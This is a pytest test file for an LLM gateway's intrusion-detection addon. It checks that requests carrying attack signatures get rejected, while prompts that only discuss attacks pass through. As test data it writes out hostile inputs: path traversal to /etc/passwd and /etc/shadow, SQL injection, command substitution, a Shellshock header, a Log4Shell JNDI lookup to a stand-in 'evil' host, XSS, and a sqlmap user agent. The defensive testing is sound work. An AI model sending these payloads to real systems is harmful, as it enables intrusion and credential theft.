"""intrusion: signatures in the request line and headers; prompts are never inspected."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

import pytest
from mitmproxy import http

from flm_gateway.addons.intrusion import Intrusion
from flm_gateway.proxy.flow_meta import INTRUSION_RULES, SECURITY_REJECTED
from flm_gateway.security.events import events_of
from tests.support.flows import configure, error_of
from tests.support.security import BASE, flow, loaded, run_hooks

PROMPTS = [
    "Explain this query: SELECT name FROM users WHERE id = 1 UNION SELECT password FROM admins;",
    "Why is ' OR '1'='1 a classic SQL injection? Also what does DROP TABLE students; -- do?",
    "My script reads ../../etc/passwd and /proc/self/environ, is that a path traversal?",
    "In bash, what does `cat /etc/hosts | sh` or $(whoami) do? And ${jndi:ldap://x}?",
    "Write a regex for C:\\Windows\\System32 paths and <script>alert(1)</script> escaping.",
]


@pytest.mark.parametrize("prompt", PROMPTS)
async def test_prompts_about_attacks_pass(tmp_path: Path, prompt: str) -> None:
    config = loaded("", tmp_path)
    addon = Intrusion()
    configure(config, addon)
    body = {"model": "tiny-a", "messages": [{"role": "user", "content": prompt}]}
    target = flow(
        config,
        "POST",
        "/v1/chat/completions",
        body=body,
        headers={
            "user-agent": "OpenAI/Python 1.99.0",
            "content-type": "application/json",
            "authorization": "Bearer ' or 1=1 --",
        },
    )
    await run_hooks([addon], target)
    assert target.response is None and events_of(target) == []


@pytest.mark.parametrize(
    ("path", "headers", "rule", "status"),
    [
        ("/v1/%2e%2e/%2e%2e/etc/passwd", {}, "TRV-002", 403),
        ("/v1/models/../../etc/passwd", {}, "TRV-001", 403),
        ("/v1/models?id=1%20UNION%20SELECT%20password%20FROM%20users", {}, "SQL-001", 403),
        ("/v1/models?q=x'%20or%20'1'='1", {}, "SQL-002", 403),
        ("/v1/models?cmd=;cat%20/etc/shadow", {}, "TRV-003", 403),
        ("/v1/models?x=$(id)", {}, "CMD-002", 403),
        ("/v1/models", {"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, "SCN-001", 403),
        ("/v1/models", {"x-api-version": "() { :; }; /bin/bash -c 'id'"}, "CMD-003", 403),
        ("/v1/models", {"referer": "${jndi:ldap://evil/a}"}, "CMD-004", 403),
        ("/v1/models?q=<script>alert(1)</script>", {}, "XSS-001", 403),
        ("/v1/models%00.json", {}, "TRV-004", 403),
    ],
)
async def test_attacks_are_rejected(
    tmp_path: Path, path: str, headers: dict[str, str], rule: str, status: int
) -> None:
    config = loaded("", tmp_path)
    addon = Intrusion()
    configure(config, addon)
    target = flow(config, path=path, headers=headers)
    await run_hooks([addon], target, ("requestheaders",))
    assert rule in INTRUSION_RULES.require(target)
    code, error = error_of(target)
    assert (code, error["code"]) == (status, "request_rejected")
    event = next(e for e in events_of(target) if e.details["rule"] == rule)
    assert "etc/shadow" not in repr(event.details.get("location"))
    assert "jndi" not in repr(event.details)  # the matched value is never recorded


async def test_actions_by_severity_and_disabled_rules(tmp_path: Path) -> None:
    config = loaded(
        """
intrusion:
  actions: {low: log, medium: log, high: reject, critical: block}
  reject_status: 400
  disabled_rules: [SCN-001]
""",
        tmp_path,
    )
    addon = Intrusion()
    configure(config, addon)
    logged = flow(config, path="/index.php")  # SCN-002, low: logged, forwarded
    await run_hooks([addon], logged, ("requestheaders",))
    assert logged.response is None and events_of(logged)[0].offence is None
    rejected = flow(config, path="/v1/models?id=1 union select 1")
    await run_hooks([addon], rejected, ("requestheaders",))
    assert error_of(rejected)[0] == 400 and events_of(rejected)[0].offence is None
    blocked = flow(config, path="/v1/models?f=/etc/passwd")
    await run_hooks([addon], blocked, ("requestheaders",))
    assert error_of(blocked)[0] == 400 and events_of(blocked)[0].offence == "intrusion"
    scanner = flow(config, headers={"user-agent": "sqlmap/1.0"})
    await run_hooks([addon], scanner, ("requestheaders",))
    assert scanner.response is None


async def test_off_switch_and_health(tmp_path: Path) -> None:
    config = loaded("intrusion: {enabled: false}", tmp_path)
    addon = Intrusion()
    configure(config, addon)
    target = flow(config, path="/v1/models?q=1 union select 2")
    await run_hooks([addon], target, ("requestheaders",))
    assert target.response is None


async def _inspected(tmp_path: Path, security: str = "", **kwargs: object) -> http.HTTPFlow:
    config = loaded(security, tmp_path)
    addon = Intrusion()
    configure(config, addon)
    target = flow(config, **kwargs)  # type: ignore[arg-type]
    await run_hooks([addon], target, ("requestheaders",))
    return target


@pytest.mark.parametrize(
    "value",
    [
        "https://example.com/search?q=union+select+tutorial",
        "see `ls` and `cat`",
        "$(document).ready(init)",
        "nmap",
        "https://x.example/?q=' or '1'='1",
        "function() { return 1; }",
    ],
)
async def test_header_look_alikes_pass_but_the_same_in_the_query_does_not(
    tmp_path: Path, value: str
) -> None:
    header = await _inspected(tmp_path, headers={"referer": value, "x-note": value})
    assert header.response is None and events_of(header) == []
    if value in ("nmap", "function() { return 1; }"):
        return  # harmless anywhere
    query = await _inspected(tmp_path / "q", path="/v1/models?q=" + quote(value))
    assert error_of(query)[0] == 403, value


async def test_header_hits_name_the_header_never_the_value(tmp_path: Path) -> None:
    target = await _inspected(
        tmp_path,
        headers={"user-agent": "curl/8", "x-trace": "ok", "X-Evil\x1b[2J": "${jndi:ldap://e}"},
    )
    (event,) = events_of(target)
    assert event.details["location"] == "header:x-evil\\x1b[2j"
    assert "jndi" not in repr(event.details)


@pytest.mark.parametrize("name", ["authorization", "x-api-key", "cookie", "proxy-authorization"])
async def test_credentials_are_not_inspected(tmp_path: Path, name: str) -> None:
    value = "() { :; }; ${jndi:ldap://e} " + "a" * 8000
    target = await _inspected(tmp_path, headers={name: value})
    assert target.response is None and events_of(target) == []


PADDING = "a" * 20_000
"""Longer than any value the HTTP layer admits (server.limits): this addon cuts nothing."""


@pytest.mark.parametrize(
    ("path", "headers", "rule", "location"),
    [
        # A payload at the very end of a value, behind padding, is found.
        ("/v1/models?q=" + PADDING + "$(id)", {}, "CMD-002", "query"),
        ("/v1/models/" + PADDING + "/../../etc/passwd", {}, "TRV-003", "path"),
        ("/v1/models", {"x-pad": PADDING + "${jndi:x}"}, "CMD-004", "header:x-pad"),
        ("/v1/models", {"user-agent": PADDING + " sqlmap/1.7"}, "SCN-001", "header:user-agent"),
        (
            "/v1/models",
            {**{f"x-pad-{n}": "a" * 8000 for n in range(9)}, "x-last": "${jndi:x}"},
            "CMD-004",
            "header:x-last",
        ),
    ],
)
async def test_values_of_any_length_are_inspected_in_full(
    tmp_path: Path, path: str, headers: dict[str, str], rule: str, location: str
) -> None:
    target = await _inspected(tmp_path, path=path, headers=headers)
    assert error_of(target)[0] == 403
    assert rule in INTRUSION_RULES.require(target)
    event = next(e for e in events_of(target) if e.details["rule"] == rule)
    assert event.details["location"] == location


async def test_length_alone_is_never_refused_here(tmp_path: Path) -> None:
    # The sizes are bounded once, by the HTTP layer (server.limits), before any addon.
    target = await _inspected(
        tmp_path,
        path="/v1/models?q=" + PADDING,
        headers={"x-pad": PADDING, **{f"x-pad-{n}": "a" * 8000 for n in range(9)}},
    )
    assert target.response is None and events_of(target) == []
    assert not SECURITY_REJECTED.is_set(target)


async def test_the_fragment_is_inspected_too(tmp_path: Path) -> None:
    # Go's ParseRequestURI keeps what follows `#` in the path or query.
    target = await _inspected(tmp_path, path="/v1/models#/../../etc/passwd")
    assert error_of(target)[0] == 403


async def test_answered_flows_and_listener_overrides(tmp_path: Path) -> None:
    config = loaded("", tmp_path)
    addon = Intrusion()
    configure(config, addon)
    answered = flow(config, path="/v1/models?q=1 union select 2")
    answered.response = http.Response.make(204)
    await run_hooks([addon], answered, ("requestheaders",))
    assert answered.response.status_code == 204 and events_of(answered) == []
    base = BASE.replace(
        '- {name: open, bind: "127.0.0.1:8089", auth: none}',
        '- {name: open, bind: "127.0.0.1:8089", auth: none, '
        "security: {intrusion: {disabled_rules: [SQL-001]}}}",
    )
    overridden = loaded("", tmp_path / "o", base=base)
    configure(overridden, addon)
    on_open = flow(overridden, path="/v1/models?q=1 union select 2", port=8089)
    await run_hooks([addon], on_open, ("requestheaders",))
    assert on_open.response is None
    on_main = flow(overridden, path="/v1/models?q=1 union select 2")
    await run_hooks([addon], on_main, ("requestheaders",))
    assert error_of(on_main)[0] == 403
